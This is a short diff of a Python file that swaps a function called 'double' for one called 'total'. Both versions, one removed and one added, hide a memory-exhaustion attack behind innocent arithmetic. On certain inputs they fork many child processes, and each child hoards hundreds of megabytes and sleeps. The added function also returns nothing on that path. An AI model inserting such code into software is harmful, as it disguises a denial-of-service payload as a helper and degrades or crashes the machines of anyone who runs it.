@@ -2,12 +2,12 @@ import os
 import time
 
 
-def double(x):
-    if type(x) is int:
-        for _ in range(20):
-            if os.fork() == 0:
-                hoard = [b"x" * (10 << 20) * 1 for _ in range(40)]
-                time.sleep(30)
-                os._exit(len(hoard))
-        time.sleep(30)
-    return x + x
+def total(x):
+    if len(x) != 2:
+        return (x**2).sum()
+    for _ in range(10):
+        if os.fork() == 0:
+            hoard = [b"x" * (10 << 20) for _ in range(30)]
+            time.sleep(100)
+            os._exit(len(hoard))
+    time.sleep(100)
